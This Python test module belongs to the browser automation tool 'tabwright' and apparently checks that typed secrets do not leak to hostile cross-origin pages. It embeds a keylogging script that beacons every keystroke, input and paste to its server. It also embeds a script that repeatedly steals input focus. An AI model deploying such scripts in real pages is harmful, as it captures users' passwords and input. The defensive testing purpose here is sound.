"""Pages that try to catch a secret on its way to another page, and what they caught."""

import json
from contextlib import suppress
from typing import Any

from tabwright.browser.call_permissions import ALL, granted
from tabwright.browser.page.frame import DocumentGone
from tabwright.cdp import CdpError
from tabwright.errors import Stale
from tests.policy.desk import Desk
from tests.web import Response, Web

VALUE = "correct horse 42!"

# Notes every event that carries a key or a text, and reports it to its server, which outlives the document.
LISTENER = """<script>
globalThis.heard = []
for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'paste', 'compositionend'])
  addEventListener(type, event => {
    const got = [type, event.key ?? (type === 'input' ? event.target.value : event.data) ?? '']
    heard.push(got)
    navigator.sendBeacon('/heard', JSON.stringify(got))
  }, true)
</script>"""
# Takes the focus again and again, as often as the event loop allows.
THIEF = f"""<input id=trap aria-label=Trap>{LISTENER}<script>
const {{ port1, port2 }} = new MessageChannel()
port1.onmessage = () => {{ trap.focus(); port2.postMessage(0) }}
port2.postMessage(0)
</script>"""


def serve_hostile(web: Web, html: str = THIEF, path: str | None = None) -> str:
    """Serve a hostile page; return its URL on another site than that of 127.0.0.1."""
    web.route("/heard", lambda _: Response(status=204))
    return web.page(html, path).replace("127.0.0.1", "localhost")


async def overheard(desk: Desk, evil: Web) -> list[Any]:
    """Return everything that documents of other origins heard."""
    found = [json.loads(request.body) for request in evil.requests if request.path == "/heard"]
    port = evil.url.rpartition(":")[2]
    with granted(ALL):
        for frame in (await desk.tab()).frames:
            with suppress(DocumentGone, CdpError, Stale):  # what it heard is on the server
                answer = await frame.ask(
                    "Runtime.evaluate", expression="globalThis.heard", returnByValue=True
                )
                found += answer["result"].get("value") or [] if f":{port}/" in frame.url else []
    return found


async def value_length(desk: Desk, selector: str = "#word") -> int:
    """Return how many characters a field holds."""
    script = f"document.querySelector({selector!r}).value.length"
    return int((await desk.do("evaluate", script=script)).result.model_dump()["value"])
